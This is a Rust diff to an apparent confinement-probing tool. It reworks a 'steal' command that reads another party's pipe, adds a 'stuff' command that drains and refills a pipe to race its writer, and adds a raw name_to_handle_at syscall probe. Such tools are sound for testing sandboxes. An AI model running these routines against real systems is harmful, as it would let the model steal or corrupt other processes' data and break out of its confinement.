@@ -26,7 +26,8 @@ fn main() -> ExitCode {
         ["writable", ref paths @ ..] => paths.iter().for_each(|path| writable(path)),
         ["process", pid] => process(pid),
         ["swap", first, second] => swap(first, second),
-        ["steal", path, mode] => steal(path, mode),
+        ["steal", path] => steal(path),
+        ["stuff", path] => stuff(path),
         ["type"] => type_at_terminal(),
         ["keyring"] => keyring(),
         _ => {
@@ -151,6 +152,14 @@ fn spawned(result: Result<i64, i32>) -> Result<i64, i32> {
 /// means that it was looked up, which is all that a patient attacker needs.
 fn handle(path: &str) {
     let Ok(file) = File::open(path) else { return println!("{path} unreadable") };
+    knock(&format!("name:{path}"), &[], |process| {
+        let name = std::ffi::CString::new(path).unwrap_or_default();
+        let (mut handle, mut mount) = ([0u8; 136], [0u8; 4]);
+        handle[0] = 128;
+        let at_cwd = Int((-100i64).cast_unsigned());
+        process
+            .call(303, &mut [at_cwd, In(name.as_bytes_with_nul()), Out(&mut handle), Out(&mut mount), Int(0)])
+    });
     let fd = file.as_raw_fd().unsigned_abs();
     knock(path, &[116], |process| {
         let mut handle = [0u8; 136];
@@ -230,21 +239,45 @@ fn swap(first: &str, second: &str) {
     }
 }
 
-/// Takes away what is in a stream's pipe, or fills it up, through the side of it that is not ours.
-fn steal(path: &str, mode: &str) {
-    let mut options = OpenOptions::new();
-    options.read(mode == "read").write(mode == "write").custom_flags(NONBLOCK);
-    let Ok(mut pipe) = options.open(path) else { return println!("{path} refused") };
-    eprintln!("stealing");
-    let mut buffer = [b'x'; 65536];
+/// Takes away what is in a stream's pipe, by opening the side of it that is not ours.
+fn steal(path: &str) {
+    let Ok(mut pipe) = nonblocking().read(true).open(path) else { return println!("{path} refused") };
+    let mut buffer = [0; 65536];
     loop {
-        let done = if mode == "read" { pipe.read(&mut buffer) } else { pipe.write(&buffer) };
-        match done {
+        match pipe.read(&mut buffer) {
             Ok(_) => {}
             Err(error) if error.kind() == ErrorKind::WouldBlock => {}
             Err(_) => return,
         }
     }
+}
+
+/// Empties a stream's pipe, so that its writer is told of room, and stuffs it at once; over and over for a
+/// moment, and stuffed at the end.
+fn stuff(path: &str) {
+    let (mut output, mut input) =
+        match (nonblocking().read(true).open(path), nonblocking().write(true).open(path)) {
+            (Ok(output), Ok(input)) => (output, input),
+            _ => return println!("{path} refused"),
+        };
+    let mut buffer = vec![b'x'; 65536];
+    let start = std::time::Instant::now();
+    for round in 0u32.. {
+        while output.read(&mut buffer).is_ok_and(|length| length > 0) {}
+        for _ in 0..round % 64 * 32 {
+            std::hint::spin_loop();
+        }
+        while input.write(&buffer).is_ok() {}
+        if start.elapsed() > Duration::from_millis(200) {
+            break;
+        }
+    }
+}
+
+fn nonblocking() -> OpenOptions {
+    let mut options = OpenOptions::new();
+    options.custom_flags(NONBLOCK);
+    options
 }
 
 /// TIOCSTI, TIOCLINUX and TIOCSETD at standard input, also with bits above the 32 that the kernel looks
